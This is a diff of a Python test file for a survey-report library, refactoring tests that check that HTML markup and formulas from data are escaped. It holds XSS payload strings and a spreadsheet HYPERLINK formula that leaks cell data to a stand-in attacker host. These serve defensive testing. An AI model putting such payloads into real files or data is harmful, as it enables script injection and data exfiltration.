@@ -15,51 +15,23 @@ from pathlib import Path
 import nbformat
 import pandas as pd
 import pytest
-import yaml
 from openpyxl import load_workbook
 
 from sqmlib import labels, SQMReportError, churn, io, outputs, report
 
-from conftest import ROOT
+from conftest import IMG, ROOT
 
 pytestmark = pytest.mark.slow
 
-SCRIPT = "<script>window.__pwned=1</script>"
-IMG = '<img src=x onerror="window.__pwned=2">'
-CATEGORY = "<script>window.__pwned=3</script>"
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
 
 
 # ---- 1. stored script injection ----------------------------------------------------------------------------
-@pytest.fixture(scope="module")
-def hostile_dir(small_dir, tmp_path_factory):
-    """The small dataset with markup in an item's wording, a region name and a complaint category."""
-    d = tmp_path_factory.mktemp("hostile")
-    for f in small_dir.iterdir():
-        shutil.copy(f, d / f.name)
-    inst = yaml.safe_load((ROOT / "sqmlib" / "instruments" / "servqual.yaml").read_text(encoding="utf-8"))
-    inst["items"]["05"]["en"] = f"does what it promised {SCRIPT}"
-    (d / "instrument.yaml").write_text(yaml.safe_dump(inst, allow_unicode=True), encoding="utf-8")
-    for name in ("survey.csv", "customers.csv", "interactions.csv"):
-        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
-        t["region"] = t["region"].replace("South", IMG)
-        if name == "interactions.csv":
-            t["category"] = t["category"].replace("billing", CATEGORY)
-        t.to_csv(d / name, index=False)
-    return d
-
-
-@pytest.fixture(scope="module")
-def hostile_report(hostile_dir, tmp_path_factory):
-    out = tmp_path_factory.mktemp("hostile_reports")
-    stems = ("00_data_audit", "02_gap_analysis", "03_driver_regression", "05_kpi_monitoring")
-    return report.build(data_dir=hostile_dir, out_dir=out, pdf=False, progress=False, log=lambda *a: None,
-                        notebooks=[nb for nb in report.report_notebooks() if nb.stem in stems])
-
-
-def test_markup_from_data_is_shown_not_run(hostile_report):
+def test_markup_from_data_is_shown_not_run(small_report):
+    """The shared report's data hold markup (conftest.markup_dir): every page shows it as text."""
+    hostile_report = small_report[0]
     pages = sorted(hostile_report.glob("*.html"))
-    assert len(pages) == 5
+    assert len(pages) == len(report.report_notebooks()) + 1
     for page in pages:
         text = page.read_text(encoding="utf-8")
         assert "<script>window.__pwned" not in text, page.name
@@ -84,10 +56,10 @@ def test_markup_from_data_is_shown_not_run(hostile_report):
             browser.close()
 
 
-def test_explorer_tables_escape_markup(hostile_dir):
+def test_explorer_tables_escape_markup(markup_dir):
     from sqmlib import explore, serve
 
-    folder = io.load_folder(hostile_dir)
+    folder = io.load_folder(markup_dir)
     app = serve.App({"survey": explore.SurveyExplorer.from_folder(folder)})
     v = app.view("survey", {"segment": "region", "value": IMG})
     assert "<img src=x" not in v["table"] + v["extra"]
@@ -326,7 +298,7 @@ def test_signals_leave_nothing_behind(small_dir, tmp_path, sig, code, word):
     masks = [ln for ln in status.read_text().splitlines() if ln.startswith(("SigBlk", "SigIgn"))] \
         if status.exists() else []
     proc.send_signal(sig)
-    _, err = proc.communicate(timeout=120)
+    _, err = proc.communicate(timeout=20)  # promptly: the notebooks running side by side stop with it
     assert proc.returncode == code, (proc.returncode, masks, err[-300:])
     assert proc.returncode == code and word in _one_line(err)
     assert list(out.iterdir()) == []
